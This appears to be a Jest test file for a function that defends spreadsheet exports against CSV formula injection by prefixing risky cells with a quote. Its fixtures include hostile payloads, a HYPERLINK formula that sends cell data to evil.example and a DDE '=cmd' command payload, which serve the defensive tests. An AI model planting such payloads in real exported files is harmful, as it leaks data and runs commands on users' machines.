import fc from 'fast-check';
import { formulaSafe, startsFormula } from './formula-safe';

describe('formulaSafe: export cells are never formulas (issue #15, OWASP CSV injection)', () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example/?q="&A1,"点击领取")',
      `'=HYPERLINK("http://evil.example/?q="&A1,"点击领取")`,
    ],
    ["=cmd|' /C calc'!A0", `'=cmd|' /C calc'!A0`],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(1)', "'@SUM(1)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['-', "'-"],
    ['+10 公益慈善类', "'+10 公益慈善类"],
  ])('prefixes %j with a single quote', (text, safe) => {
    expect(startsFormula(text)).toBe(true);
    expect(formulaSafe(text)).toBe(safe);
  });

  it.each([
    '青秀区邻里互助会',
    'a=1',
    ' =1+1',
    "'=1+1",
    '',
    '5000.00',
    '-5000.00', // rule R26: a negative amount in yuan is a numeral, not a formula
    '-0',
    '12',
  ])('leaves %j as it is', (text) => {
    expect(startsFormula(text)).toBe(false);
    expect(formulaSafe(text)).toBe(text);
  });

  it('rule R26: leaves numbers numbers, negative ones included', () => {
    for (const n of [0, -1, -1234.5, 83.33, Number.MAX_SAFE_INTEGER]) {
      expect(formulaSafe(n)).toBe(n);
      expect(typeof formulaSafe(n)).toBe('number');
    }
  });

  it('gives text that starts no formula, loses nothing, and is idempotent', () => {
    const triggers = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '');
    const text = fc.tuple(triggers, fc.string()).map(([head, tail]) => head + tail);
    fc.assert(
      fc.property(text, (value) => {
        const safe = formulaSafe(value);
        expect(startsFormula(safe)).toBe(false);
        expect(safe === value || safe === `'${value}`).toBe(true);
        expect(formulaSafe(safe)).toBe(safe);
      }),
      { numRuns: 500 },
    );
  });
});
